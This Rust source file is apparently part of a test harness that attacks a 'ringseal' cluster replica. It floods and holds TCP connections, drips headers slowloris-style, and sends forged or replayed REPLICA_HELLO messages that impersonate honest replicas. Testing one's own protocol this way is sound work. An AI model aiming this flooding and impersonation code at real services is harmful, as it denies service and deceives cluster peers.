//! The attacker: a loop over non-blocking sockets that opens, speaks and opens again.

use std::collections::HashMap;
use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use ringseal_auth::cluster_id;
use ringseal_wire::{Command, HEADER_LEN, Header, ReplicaId};
use rustix::buffer::spare_capacity;
use rustix::event::Timespec;
use rustix::event::epoll::{self, EventData, EventFlags};
use rustix::fd::OwnedFd;
use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};

use super::attack::{Attack, Speech};
use super::cluster::{self, NAME, TAGGED};

/// How often it opens what is due, unless something happens before.
const TURN: Timespec = Timespec { tv_sec: 0, tv_nsec: 2_000_000 };

/// The most connections that are opened in one turn, however long it was held up.
const MOST_AT_ONCE: f64 = 64.0;

/// What has happened so far.
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub(super) struct Account {
    /// Connections that were established.
    pub(super) opened: u64,
    /// Connections that could not be.
    pub(super) failed: u64,
    /// Established connections that the target has closed.
    pub(super) closed: u64,
}

#[derive(Default)]
struct Counts {
    opened: AtomicU64,
    failed: AtomicU64,
    closed: AtomicU64,
}

/// Starts the attack on a thread of its own, where it goes on until the process ends. `hellos` are
/// what it has captured.
pub(super) fn start(
    attack: Attack,
    target: SocketAddr,
    hellos: Vec<Vec<u8>>,
) -> Result<impl FnMut() -> Account + use<>> {
    let counts = Arc::new(Counts::default());
    let shared = counts.clone();
    let mut attacker = Attacker {
        attack,
        target,
        hellos,
        counts,
        epoll: epoll::create(epoll::CreateFlags::CLOEXEC).context("epoll")?,
        connections: HashMap::new(),
        ended: Vec::new(),
        tried: 0,
        due: 0.0,
        dripped: Instant::now(),
    };
    thread::spawn(move || {
        let Err(error) = attacker.run();
        eprintln!("the attacker has ended: {error:#}");
    });
    Ok(move || Account {
        opened: shared.opened.load(Relaxed),
        failed: shared.failed.load(Relaxed),
        closed: shared.closed.load(Relaxed),
    })
}

struct Attacker {
    attack: Attack,
    target: SocketAddr,
    hellos: Vec<Vec<u8>>,
    counts: Arc<Counts>,
    epoll: OwnedFd,
    connections: HashMap<u64, Connection>,
    /// Connections that are over. Until all that are wanted have been opened they keep their
    /// descriptors, so that as many are held as the attack says.
    ended: Vec<u64>,
    tried: u64,
    /// How many connections may be opened now.
    due: f64,
    dripped: Instant,
}

struct Connection {
    stream: TcpStream,
    established: bool,
    said: usize,
}

impl Attacker {
    fn run(&mut self) -> Result<std::convert::Infallible> {
        let mut events = Vec::with_capacity(1024);
        let mut before = Instant::now();
        loop {
            let now = Instant::now();
            self.open_due(now - before)?;
            before = now;
            if self.attack.speech == Speech::Drip && self.dripped.elapsed().as_secs() >= 1 {
                self.dripped = now;
                self.drip();
            }
            events.clear();
            epoll::wait(&self.epoll, spare_capacity(&mut events), Some(&TURN))?;
            for event in &events {
                self.happened(event.data.u64(), event.flags)?;
            }
        }
    }

    fn open_due(&mut self, passed: Duration) -> Result<()> {
        let all_opened = self.counts.opened.load(Relaxed) >= self.attack.held as u64;
        let per_second = if all_opened { self.attack.again } else { self.attack.opening };
        if all_opened {
            for id in self.ended.drain(..) {
                self.connections.remove(&id);
            }
        }
        self.due = (self.due + passed.as_secs_f64() * f64::from(per_second)).min(MOST_AT_ONCE);
        while self.due >= 1.0 && self.connections.len() < self.attack.held {
            self.due -= 1.0;
            let number = self.tried;
            self.tried += 1;
            match self.connect(number) {
                Ok(stream) => {
                    let flags = EventFlags::OUT | EventFlags::RDHUP | EventFlags::ET;
                    epoll::add(&self.epoll, &stream, EventData::new_u64(number), flags)?;
                    let connection = Connection { stream, established: false, said: 0 };
                    self.connections.insert(number, connection);
                }
                Err(_) => {
                    self.counts.failed.fetch_add(1, Relaxed);
                }
            }
        }
        Ok(())
    }

    fn connect(&self, number: u64) -> io::Result<TcpStream> {
        let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
        socket.set_nonblocking(true)?;
        // A close is a reset, so that no port is left waiting for its last segments.
        socket.set_linger(Some(Duration::ZERO))?;
        let from = SocketAddr::from((self.attack.source.address(number), 0));
        socket.bind(&from.into())?;
        match socket.connect(&self.target.into()) {
            Err(error)
                if error.raw_os_error() != Some(rustix::io::Errno::INPROGRESS.raw_os_error()) =>
            {
                Err(error)
            }
            _ => Ok(socket.into()),
        }
    }

    fn happened(&mut self, id: u64, flags: EventFlags) -> Result<()> {
        let Some(connection) = self.connections.get_mut(&id) else { return Ok(()) };
        let over = flags.intersects(EventFlags::ERR | EventFlags::HUP | EventFlags::RDHUP);
        if !connection.established {
            if over && connection.stream.take_error()?.is_some() {
                self.counts.failed.fetch_add(1, Relaxed);
                self.connections.remove(&id);
                return Ok(());
            }
            connection.established = true;
            self.counts.opened.fetch_add(1, Relaxed);
            self.speak(id)?;
        }
        if over {
            self.counts.closed.fetch_add(1, Relaxed);
            self.ended.push(id);
        }
        Ok(())
    }

    /// Says on a fresh connection what there is to say at once.
    fn speak(&mut self, id: u64) -> Result<()> {
        let Some(connection) = self.connections.get_mut(&id) else { return Ok(()) };
        let hello = |id| Ok::<_, anyhow::Error>(*forged_hello(id)?.as_bytes());
        let says = match self.attack.speech {
            Speech::Silence | Speech::Drip => Vec::new(),
            Speech::AlmostAHello => hello(id)?[..HEADER_LEN - 1].to_vec(),
            Speech::Hello => hello(id)?.to_vec(),
            Speech::Replay => {
                let captured = self.hellos.len().max(1) as u64;
                self.hellos.get((id % captured) as usize).context("nothing was captured")?.clone()
            }
            Speech::Noise => cluster::random::<512>()?.to_vec(),
            Speech::Reset => hello(id)?[..100].to_vec(),
        };
        // A connection that the target has closed already hears nothing.
        connection.stream.write_all(&says).unwrap_or_default();
        if self.attack.speech == Speech::Reset {
            self.connections.remove(&id);
        }
        Ok(())
    }

    fn drip(&mut self) {
        let hello = Header::new(Command::REPLICA_HELLO);
        for connection in self.connections.values_mut().filter(|one| one.established) {
            let next = hello.as_bytes().get(connection.said..=connection.said).unwrap_or_default();
            connection.said += 1;
            // As above.
            connection.stream.write_all(next).unwrap_or_default();
        }
    }
}

/// A Hello that looks right in every way that needs no secret, in the name of an honest replica.
fn forged_hello(number: u64) -> Result<Header> {
    let replica = TAGGED.start + (number % TAGGED.len() as u64) as u8;
    let mut hello = Header::new(Command::REPLICA_HELLO);
    hello.set_cluster(cluster_id(NAME)).set_replica(ReplicaId::new(replica));
    let fields = hello.reserved_command_mut();
    fields[..32].copy_from_slice(&cluster::random::<32>()?);
    fields[72..80].copy_from_slice(&cluster::now_ms()?.to_le_bytes());
    fields[80..96].copy_from_slice(&cluster::random::<16>()?);
    Ok(hello)
}
